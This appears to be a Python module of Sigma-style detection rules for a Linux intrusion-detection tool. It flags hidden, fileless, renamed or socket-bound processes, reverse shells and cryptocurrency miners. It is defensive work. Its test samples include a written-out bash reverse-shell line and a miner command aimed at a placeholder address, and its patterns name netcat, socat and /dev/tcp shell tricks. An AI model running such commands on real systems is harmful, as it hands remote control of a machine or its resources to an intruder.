# Copyright: (c) 2026, Firebreak contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""The rules, plain data: detection as Sigma writes it, over the fields of `_match.FIELDS`.

grade and family decide what a hit may lead to (`_decide`); attack is a technique of MITRE ATT&CK; every rule says when it
is wrong, and has samples that must and must not match, which the unit tests run. What takes a look into every process's
environment, status or descriptors is `deep`: it is asked of all only where there is time, else of those that another rule hit.
"""

from __future__ import annotations

TYPE_CHECKING = False
if TYPE_CHECKING:
    Rule = dict[str, object]


def _rule(
    name: str, grade: str, family: str, attack: str, title: str, falsepositives: str, detection: Rule, match: Rule, nomatch: Rule,
    deep: bool = False,
) -> Rule:
    return {
        "id": name, "grade": grade, "family": family, "attack": attack, "title": title, "falsepositives": [falsepositives],
        "detection": detection, "match": match, "nomatch": nomatch, "deep": deep,
    }


_WEB = ["nginx", "apache", "httpd", "php-fpm", "lighttpd", "caddy", "java", "mysqld", "mariadbd", "postgres", "redis-server", "mongod", "tomcat"]
_TOOLS = ["sh", "bash", "dash", "zsh", "ksh", "busybox", "id", "whoami", "uname", "wget", "curl", "nc", "ncat", "netcat", "socat"]
_READERS = ["grep", "egrep", "fgrep", "rg", "ag", "less", "more", "vim", "vi", "nano", "emacs", "sed", "awk", "gawk", "mawk", "cat", "tail", "find"]
_POOL = [
    "stratum+tcp://", "stratum+ssl://", "stratum+udp://", "stratum2+tcp://", "--donate-level", "--algo=rx/0", "--coin=monero", " -a rx/0",
    "--randomx-", "--nicehash", "supportxmr.com", "minexmr.com", "nanopool.org", "moneroocean.stream", "hashvault.pro", "2miners.com",
    "nicehash.com", "xmrpool.", "c3pool.",
]

# Where packages, snaps and the distributions of Kubernetes put container runtimes: folders that only root can write.
_RUNTIMES = ["/usr/", "/bin/", "/sbin/", "/snap/", "/var/lib/rancher/", "/var/lib/k0s/"]

RULES: list[Rule] = [
    _rule(
        "deleted-program", "strong", "hiding", "T1070.004", "runs from a file that was deleted from a folder where anyone may write",
        "an installer that removes itself while it runs",
        {"gone": {"deleted": True, "writable_path": True}, "condition": "gone"},
        {"Image": "/tmp/.x/kdevd", "deleted": True, "writable_path": True},
        {"Image": "/usr/bin/python3.11", "deleted": True, "writable_path": False},
    ),
    _rule(
        "deleted-program-outside-peer", "medium", "hiding", "T1070.004",
        "runs from a file that was deleted, and holds a connection to the outside",
        "a service that was upgraded and not restarted",
        {"gone": {"deleted": True, "writable_path": False, "outside_peer": True}, "condition": "gone"},
        {"Image": "/root/agent", "deleted": True, "outside_peer": True},
        {"Image": "/usr/sbin/nginx", "deleted": True, "outside_peer": False},
    ),
    _rule(
        "memory-program", "strong", "hiding", "T1620", "runs from memory, without any file",
        "container runtimes and systemd start helpers so",
        {
            "memory": {"memfd": True},
            "runtime": {
                "Image|startswith": ["/memfd:runc_cloned:", "/memfd:crun", "/memfd:conmon"],
                "ParentBasename": ["runc", "crun", "conmon", "containerd-shim", "containerd-shim-runc-v", "dockerd", "podman"],
                "ParentImage|startswith": _RUNTIMES,
            },
            "manager": {
                "Image|startswith": "/memfd:systemd-executor", "ParentImage": ["/usr/lib/systemd/systemd", "/lib/systemd/systemd"],
            },
            "condition": "memory and not runtime and not manager",
        },
        {"Image": "/memfd:runc_cloned:/proc/self/exe", "memfd": True, "ParentBasename": "podman", "ParentImage": "/tmp/podman"},
        {"Image": "/memfd:runc_cloned:/proc/self/exe", "memfd": True, "ParentBasename": "conmon", "ParentImage": "/usr/bin/conmon"},
    ),
    _rule(
        "leaderless-process", "strong", "hiding", "T1564", "its main thread has exited while others run on; ps shows a zombie",
        "programs that end their main thread on purpose; a process with many threads in the moment of its death",
        {"gone": {"leader_exited": True}, "condition": "gone"},
        {"Image": "/opt/a", "leader_exited": True}, {"Image": "/opt/a", "leader_exited": False},
    ),
    _rule(
        "writable-folder-program", "medium", "origin", "T1036.005", "its program lies in a folder where anyone may write",
        "AppImages, compilers' test programs, installers",
        {"place": {"writable_path": True}, "condition": "place"},
        {"Image": "/dev/shm/.u", "writable_path": True},
        {"Image": "/usr/bin/sleep", "writable_path": False},
    ),
    _rule(
        "writable-folder-script", "medium", "origin", "T1059", "an interpreter runs a script that lies in a folder where anyone may write",
        "installers, deployment tools",
        {"script": {"interpreter": True, "script_writable": True}, "condition": "script"},
        {"Image": "/usr/bin/python3", "interpreter": True, "script_writable": True},
        {"Image": "/usr/bin/vim.basic", "interpreter": False, "script_writable": True},
    ),
    _rule(
        "writable-folder-cwd", "weak", "origin", "T1036.005", "works in a folder where anyone may write",
        "administrators' shells",
        {
            "place": {"CurrentDirectory|startswith": ["/tmp", "/var/tmp", "/dev/shm", "/run/shm"]},
            "condition": "place",
        },
        {"CurrentDirectory": "/dev/shm"}, {"CurrentDirectory": "/root"}, deep=True,
    ),
    _rule(
        "kernel-thread-name", "strong", "identity", "T1036.004", "calls itself like a kernel thread, and is none",
        "none known",
        {"name": {"bracketed": True}, "condition": "name"},
        {"Argv0": "[kworker/0:1]", "bracketed": True}, {"Argv0": "[", "bracketed": False},
    ),
    _rule(
        "renamed-process", "weak", "identity", "T1036.003", "its name is not its program's",
        "interpreters, and programs that name their parts",
        {"name": {"renamed": True}, "system": {"system_path": True}, "condition": "name and not system"},
        {"Image": "/opt/a/b", "Name": "sshd", "renamed": True},
        {"Image": "/usr/bin/python3.11", "Name": "fail2ban-server", "renamed": True, "system_path": True},
    ),
    _rule(
        "preload", "medium", "hiding", "T1574.006", "a library is forced into it (LD_PRELOAD or LD_AUDIT)",
        "jemalloc, monitoring agents, fakeroot",
        {"forced": {"preload": True}, "condition": "forced"},
        {"Image": "/usr/sbin/nginx", "preload": True}, {"Image": "/usr/sbin/nginx", "preload": False}, deep=True,
    ),
    _rule(
        "shell-on-socket", "strong", "network", "T1059.004", "a shell or interpreter whose input and output are a network connection",
        "services started by inetd or by socket units with Accept=yes",
        {
            "socket": {"stdio_socket": True}, "shell": {"interpreter": True}, "place": {"writable_path": True}, "gone": {"deleted": True},
            "condition": "socket and shell or socket and place or socket and gone",
        },
        {"Image": "/usr/bin/bash", "stdio_socket": True, "interpreter": True},
        {"Image": "/usr/sbin/in.ftpd", "stdio_socket": True, "interpreter": False},
    ),
    _rule(
        "stdio-on-socket", "medium", "network", "T1059", "its input and output are a network connection",
        "services started by inetd or by socket units with Accept=yes",
        {"socket": {"stdin_socket": True}, "condition": "socket"},
        {"Image": "/usr/bin/cat", "stdin_socket": True}, {"Image": "/usr/bin/cat", "stdin_socket": False},
    ),
    _rule(
        "shell-without-terminal", "medium", "behaviour", "T1059.004", "a shell that waits for a person, without a terminal",
        "programs that steer a shell, such as editors and IRC bots",
        {"shell": {"shell_without_tty": True}, "condition": "shell"},
        {"CommandLine": "bash -i", "shell_without_tty": True}, {"CommandLine": "-bash", "shell_without_tty": False},
    ),
    _rule(
        "reverse-shell-command", "medium", "behaviour", "T1059", "its command line opens a shell over the network",
        "health checks of containers; whoever looks for such commands",
        {
            "device": {"CommandLine|contains": ["/dev/tcp/", "/dev/udp/"]},
            "netcat": {"Basename": ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"],
                       "CommandLine|re": r"\s(-[a-z]*[ec]|--exec|--sh-exec)(\s|=|$)"},
            "socat": {"Basename": "socat", "CommandLine|re": r"(?i)(exec|system):"},
            "python": {"CommandLine|contains|all": ["python", "socket"], "CommandLine|re": r"dup2|pty\.spawn|subprocess|os\.system"},
            "perl": {"CommandLine|contains|all": ["perl", "socket"], "CommandLine|re": r"exec|system|STDIN->fdopen"},
            "php": {"CommandLine|contains|all": ["php", "fsockopen"]},
            "ruby": {"CommandLine|contains|all": ["ruby", "TCPSocket"]},
            "reader": {"Basename": _READERS, "system_path": True},
            "condition": "device and not reader or netcat or socat or python and not reader or perl and not reader or php and not reader"
                         " or ruby and not reader",
        },
        {"Basename": "bash", "CommandLine": "bash -c bash -i >& /dev/tcp/203.0.113.5/443 0>&1"},
        {"Basename": "grep", "CommandLine": "grep -r /dev/tcp/ /etc", "system_path": True},
    ),
    _rule(
        "web-service-shell", "medium", "behaviour", "T1505.003", "a web server, database or Java machine has started a shell or scout",
        "CGI programs, build servers",
        {"child": {"Basename": _TOOLS, "ParentBasename": _WEB}, "condition": "child"},
        {"ParentBasename": "nginx", "Basename": "sh"}, {"ParentBasename": "bash", "Basename": "sh"},
    ),
    _rule(
        "miner-command", "strong", "behaviour", "T1496", "its command line is a cryptocurrency miner's",
        "a miner that the owner runs",
        {
            "words": {"CommandLine|contains": _POOL},
            "foreign": {"system_path": False}, "talks": {"outside_peer": True},
            "reader": {"Basename": _READERS, "system_path": True},
            "condition": "words and foreign or words and talks and not reader",
        },
        {"Image": "/tmp/xmr", "CommandLine": "xmr -o stratum+tcp://203.0.113.5:3333"},
        {"Image": "/usr/bin/grep", "Basename": "grep", "CommandLine": "grep -r stratum+tcp:// /etc", "system_path": True},
    ),
    _rule(
        "writable-folder-network", "medium", "network", "T1071", "a program from a folder where anyone may write talks to the outside",
        "AppImages, installers",
        {
            "program": {"writable_path": True, "outside_peer": True}, "script": {"interpreter": True, "script_writable": True, "outside_peer": True},
            "condition": "program or script",
        },
        {"Image": "/tmp/a", "writable_path": True, "outside_peer": True},
        {"Image": "/tmp/a", "writable_path": True, "outside_peer": False},
    ),
    _rule(
        "fileless-network", "medium", "network", "T1095", "a program without a file holds a network socket",
        "container runtimes",
        {
            "memory": {"memfd": True, "network_socket": True}, "gone": {"deleted": True, "writable_path": True, "network_socket": True},
            "condition": "memory or gone",
        },
        {"Image": "/dev/shm/.u", "deleted": True, "writable_path": True, "network_socket": True},
        {"Image": "/usr/sbin/sshd", "deleted": True, "network_socket": True},
    ),
    _rule(
        "packet-socket", "medium", "network", "T1040", "holds a packet or raw socket",
        "DHCP clients, tcpdump, keepalived, intrusion detection",
        {
            "socket": {"packet_socket": True},
            "known": {
                "Basename": ["dhclient", "dhcpcd", "udhcpc", "tcpdump", "dumpcap", "keepalived", "suricata", "snort", "zeek", "ping", "arping",
                             "systemd-networkd", "NetworkManager", "lldpd", "wpa_supplicant", "hostapd", "dnsmasq", "radvd", "bird",
                             "avahi-daemon", "traceroute", "mtr-packet", "chronyd", "arpwatch", "dhcpd", "kea-dhcp", "ospfd"],
                "system_path": True,
            },
            "condition": "socket and not known",
        },
        {"Image": "/tmp/.s", "Basename": ".s", "packet_socket": True},
        {"Image": "/usr/sbin/tcpdump", "Basename": "tcpdump", "packet_socket": True, "system_path": True}, deep=True,
    ),
    _rule(
        "traced", "medium", "behaviour", "T1055.008", "another program steers it by ptrace, which is no debugger",
        "monitoring agents, criu, sandboxes",
        {
            "traced": {"tracer|re": "."}, "debugger": {"tracer": ["gdb", "gdbserver", "lldb", "lldb-server", "strace", "ltrace", "rr", "dlv", "criu"]},
            "condition": "traced and not debugger",
        },
        {"tracer": "python"}, {"tracer": "strace"}, deep=True,
    ),
    _rule(
        "hidden-path", "weak", "hiding", "T1564.001", "its program lies in a hidden folder or file",
        "editors' servers, version managers",
        {"path": {"Image|contains": "/."}, "condition": "path"},
        {"Image": "/var/tmp/.x/p"}, {"Image": "/usr/bin/p"},
    ),
]
